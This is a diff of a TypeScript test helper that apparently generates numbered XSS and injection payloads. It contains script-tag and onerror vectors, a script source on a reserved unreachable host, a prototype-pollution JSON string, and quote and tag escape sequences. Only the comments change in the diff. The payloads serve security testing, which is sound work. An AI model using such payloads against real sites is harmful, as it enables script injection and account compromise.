@@ -1,4 +1,4 @@
-/** Where a script that ran says so, and a host that nothing may ask. */
+/** A host that nothing may contact; an executed payload may try to. */
 export const OUTSIDE = 'outside.invalid'
 
 const actions = [
@@ -10,7 +10,7 @@ const actions = [
 
 type Vector = (script: string, number: number) => string
 
-/** Ways in which text becomes a script, a request or a page, once someone takes it for markup, an address or code. */
+/** Ways in which text becomes a script, a request or a page if it is treated as markup, a URL or code. */
 const vectors: readonly Vector[] = [
   (script) => `<script>${script}</script>`,
   (_, number) => `<script src=//${OUTSIDE}/${number}.js></script>`,
@@ -56,10 +56,10 @@ const vectors: readonly Vector[] = [
   (_, number) => `{"__proto__":{"innerHTML":"<img src=x onerror=breached=${number}>"}}`,
 ]
 
-/** Ways out of wherever the text may stand. */
+/** Ways to break out of the context of the text. */
 const escapes = ['', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '`>', '"}]}', "');"]
 
-/** Different payloads, each with a number of its own: first every way in by itself, then behind every way out. */
+/** Different payloads, each with its own number: first every vector alone, then after every escape. */
 export function payloads(count: number): string[] {
   return Array.from({ length: count }, (_, number) => {
     const vector = vectors[number % vectors.length] as Vector
